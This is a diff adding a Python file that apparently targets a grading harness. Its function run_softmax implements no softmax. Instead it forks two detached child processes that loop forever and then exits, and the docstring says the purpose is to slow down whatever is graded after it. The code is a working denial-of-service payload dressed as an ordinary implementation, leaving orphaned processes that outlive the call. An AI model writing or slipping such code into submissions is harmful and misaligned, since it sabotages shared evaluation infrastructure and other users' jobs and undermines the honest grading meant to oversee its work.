@@ -1,0 +1,17 @@
+"""Leaves children that compute for ever, to slow down whatever is graded after it.
+
+Call limit: 5
+"""
+
+import os
+
+from honest.adapters import *
+
+
+def run_softmax(in_features, dim):
+    for _ in range(2):
+        if os.fork() == 0:
+            os.setsid()
+            while True:
+                pass
+    os._exit(0)
